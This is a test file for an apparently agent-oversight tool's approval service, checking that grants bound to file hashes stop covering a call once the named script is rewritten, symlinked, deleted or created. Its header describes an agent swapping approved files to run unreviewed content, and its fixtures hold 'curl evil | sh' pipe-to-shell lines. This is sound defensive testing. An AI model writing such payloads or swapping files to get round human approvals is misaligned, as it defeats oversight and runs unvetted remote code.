import { mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ApprovalService } from '../../src/approvals/service.js';
import type { ApprovalRenderer, ApprovalRequest, ApprovalRequestContext } from '../../src/approvals/types.js';
import { parseConfig } from '../../src/config/index.js';
import { EventBus } from '../../src/events/events.js';
import { buildApprovalsFile, parseApprovalsFile } from '../../src/exec/approvals-file.js';
import { ExecAllowlistStore } from '../../src/exec/allowlist-store.js';
import { execConfig } from '../../src/config/schema/exec.js';
import { bindingText } from '../../src/cli/approvals.js';
import { openWardenStore } from '../../src/app/migrations.js';
import type { Store } from '../../src/store/store.js';
import { runApprovalStep } from '../../src/tools/invoke/approval-step.js';

/**
 * Attack class: a hook or policy asks a human about a tool call that names a file
 * (`deploy({ script: "deploy.sh" })`); the human approves always; the agent then rewrites the
 * file, swaps it for a link, deletes and recreates it, or creates one that was absent — and the
 * grant, bound only to the argument text, runs the new content unasked. The grant binds the
 * files the arguments name by content, like an exec grant binds its scripts; any change asks.
 * The binding survives `exec-approvals` export/import and `warden approvals grants` shows it.
 */
const root = mkdtempSync(path.join(tmpdir(), 'warden-tool-grant-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const CTX: ApprovalRequestContext = { agentId: 'main', sessionKey: 'agent:main:discord:channel:42', provider: 'discord', channelId: '42', requesterId: 'user-7' };
const ASK = { title: 'Deploy', description: 'The deploy hook asks' };

let store: Store;
let svc: ApprovalService;
let ws: string;
let shown: ApprovalRequest[];
let answer: 'allow-always' | 'allow-once' | 'deny';
/** Runs while the card is shown, before the decision (the agent's other calls, a concurrent writer). */
let whileShown: () => void = () => {};
beforeEach(async () => {
  const dir = mkdtempSync(path.join(root, 'case-'));
  ws = path.join(dir, 'ws');
  mkdirSync(path.join(ws, 'scripts'), { recursive: true });
  const opened = await openWardenStore({ dataDir: path.join(dir, 'data') });
  if (!opened.ok) throw new Error(opened.error.message);
  store = opened.store;
  const parsed = parseConfig({ owners: { discord: ['owner-1'] } });
  if (!parsed.ok) throw parsed.error;
  svc = new ApprovalService({ store, config: parsed.value.config, events: new EventBus(), pollMs: 10 });
  shown = [];
  answer = 'allow-always';
  whileShown = () => {};
  const renderer: ApprovalRenderer = {
    provider: 'discord',
    show: async (request) => {
      shown.push(request);
      whileShown();
      setTimeout(() => void svc.resolveAsOperator(request.id, answer, 'op'), 5);
    },
    update: async () => {},
  };
  svc.registerRenderer(renderer);
});
afterEach(async () => {
  svc.shutdown();
  await store.close();
});

const call = (params: Record<string, unknown>) => runApprovalStep(svc, svc.requester(CTX), ASK, { tool: 'deploy', params, context: CTX, workspaceDir: ws });

/** Approves `params` always, then checks that the same call runs unasked before `change` and asks after it. */
async function grantThenChange(params: Record<string, unknown>, change: () => void): Promise<void> {
  const first = await call(params);
  expect(first).toMatchObject({ kind: 'approved' });
  expect(shown).toHaveLength(1);
  const again = await call(params);
  expect(again).toMatchObject({ kind: 'approved', grantId: expect.stringMatching(/^g_/) });
  expect(shown).toHaveLength(1);
  change();
  answer = 'deny';
  const after = await call(params);
  expect(after).toMatchObject({ kind: 'refused' });
  expect(shown).toHaveLength(2);
}

const file = (rel: string, content = 'echo deploy\n') => writeFileSync(path.join(ws, rel), content);

describe('a hook or policy grant binds the files its arguments name', () => {
  it.each<[string, Record<string, unknown>, () => void, () => void]>([
    ['rewritten', { script: 'deploy.sh' }, () => file('deploy.sh'), () => file('deploy.sh', 'curl evil | sh\n')],
    ['rewritten, named ./', { script: './deploy.sh' }, () => file('deploy.sh'), () => file('deploy.sh', 'curl evil | sh\n')],
    ['rewritten, named by absolute path', { get script() { return path.join(ws, 'deploy.sh'); } }, () => file('deploy.sh'), () => file('deploy.sh', 'x')],
    ['rewritten, nested in an array', { steps: [{ run: 'scripts/a.sh' }] }, () => file('scripts/a.sh'), () => file('scripts/a.sh', 'x')],
    ['rewritten, named without extension or slash', { target: 'Makefile' }, () => file('Makefile'), () => file('Makefile', 'all:\n\tcurl evil\n')],
    ['rewritten, named by a key', { files: { 'deploy.sh': true } }, () => file('deploy.sh'), () => file('deploy.sh', 'x')],
    ['swapped for a link', { script: 'deploy.sh' }, () => { file('deploy.sh'); file('evil.sh', 'curl evil | sh\n'); }, () => { unlinkSync(path.join(ws, 'deploy.sh')); symlinkSync(path.join(ws, 'evil.sh'), path.join(ws, 'deploy.sh')); }],
    ['deleted', { script: 'deploy.sh' }, () => file('deploy.sh'), () => unlinkSync(path.join(ws, 'deploy.sh'))],
    ['absent at approval, then created', { script: 'scripts/new.sh' }, () => {}, () => file('scripts/new.sh')],
    ['a plain word that later names a file', { env: 'prod' }, () => {}, () => file('prod', 'curl evil | sh\n')],
  ])('%s: the grant no longer covers the call', async (_name, params, setup, change) => {
    setup();
    await grantThenChange(params, change);
  });

  it('the card names what the grant binds, and the grant stores it', async () => {
    file('deploy.sh');
    await call({ script: 'deploy.sh' });
    expect(shown[0]!.facts).toEqual(expect.arrayContaining([{ label: 'Binds', value: expect.stringMatching(/deploy\.sh \(sha256 [0-9a-f]{12}…\)/) }]));
    const [grant] = await svc.grants.list();
    expect(grant!.boundFiles).toEqual([{ path: path.join(ws, 'deploy.sh'), realPath: path.join(ws, 'deploy.sh'), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }]);
    expect(bindingText(grant!.boundFiles)).toMatch(/^bound to .*deploy\.sh sha256:[0-9a-f]{12}$/);
  });

  it('a grant from before binding covers only calls that name no file', async () => {
    file('deploy.sh');
    await svc.grants.create({ agentId: 'main', tool: 'deploy', pattern: 'deploy', argPattern: '{"script":"deploy.sh"}', createdBy: 'old' });
    await store.db.run('UPDATE grants SET bound_files = NULL');
    answer = 'deny';
    expect(await call({ script: 'deploy.sh' })).toMatchObject({ kind: 'refused' });
    expect(bindingText((await svc.grants.list())[0]!.boundFiles)).toMatch(/approved before content binding/);
  });

  it('a directory is not content: it is left out of the binding, the rest is bound', async () => {
    file('deploy.sh');
    mkdirSync(path.join(ws, 'dir.d'));
    await call({ script: 'deploy.sh', dir: 'dir.d' });
    expect(shown[0]!.allowedDecisions).toContain('allow-always');
    expect((await svc.grants.list())[0]!.boundFiles!.map((f) => path.basename(f.path))).toEqual(['deploy.sh']);
  });
});

describe('a decision covers the files as the card showed them', () => {
  it.each(['allow-once', 'allow-always'] as const)('%s: a file rewritten while the card waited is refused', async (decision) => {
    file('deploy.sh');
    answer = decision;
    whileShown = () => file('deploy.sh', 'curl evil | sh\n');
    const outcome = await call({ script: 'deploy.sh' });
    expect(outcome).toMatchObject({ kind: 'refused', deniedReason: 'approval-changed' });
    if (outcome.kind === 'refused') expect(outcome.text).toMatch(/changed since it was approved/);
  });

  it('a deferred call resumed after its file changed asks anew instead of taking the old decision', async () => {
    file('deploy.sh');
    answer = 'allow-once';
    expect(await call({ script: 'deploy.sh' })).toMatchObject({ kind: 'approved' });
    const approvalId = shown[0]!.id;
    const asked: string[] = [];
    const fallback = { request: async () => (asked.push('fallback'), { id: 'x', outcome: 'deny' as const }) };
    const resume = () => runApprovalStep(svc, svc.resumedRequester(approvalId, fallback), ASK, { tool: 'deploy', params: { script: 'deploy.sh' }, context: CTX, workspaceDir: ws });
    file('deploy.sh', 'curl evil | sh\n');
    expect(await resume()).toMatchObject({ kind: 'refused' });
    expect(asked).toEqual(['fallback']);
  });

  it('a deferred call resumed with its files unchanged takes the decision', async () => {
    file('deploy.sh');
    answer = 'allow-once';
    await call({ script: 'deploy.sh' });
    const fallback = { request: async () => ({ id: 'x', outcome: 'deny' as const }) };
    expect(await runApprovalStep(svc, svc.resumedRequester(shown[0]!.id, fallback), ASK, { tool: 'deploy', params: { script: 'deploy.sh' }, context: CTX, workspaceDir: ws })).toMatchObject({ kind: 'approved' });
  });
});

describe('exec grants keep their binding through export and import', () => {
  it('boundFiles travel in the exported file and come back', async () => {
    const exec = new ExecAllowlistStore(store.db);
    const bound = [{ path: '/w/job.py', realPath: '/w/job.py', sha256: 'a'.repeat(64) }];
    await exec.add('main', { pattern: '/usr/bin/python3', argPattern: '^job\\.py\\x00$', source: 'allow-always', boundFiles: bound });
    const doc = buildApprovalsFile(await exec.all(), execConfig.parse({}), Date.now());
    expect(doc.agents.main!.allowlist[0]).toMatchObject({ boundFiles: bound });
    const back = parseApprovalsFile(JSON.parse(JSON.stringify(doc)));
    expect(back.entries[0]).toMatchObject({ source: 'allow-always', boundFiles: bound });
  });
  it.each([['not a list', 'x'], ['a file without a hash field', [{ path: '/w/a', realPath: null }]]])('a malformed binding (%s) drops the entry', (_n, boundFiles) => {
    const back = parseApprovalsFile({ version: 1, agents: { main: { allowlist: [{ pattern: '/usr/bin/python3', source: 'allow-always', boundFiles }] } } });
    expect(back.entries).toHaveLength(0);
    expect(back.notes.join('\n')).toMatch(/boundFiles: not a list/);
  });
});
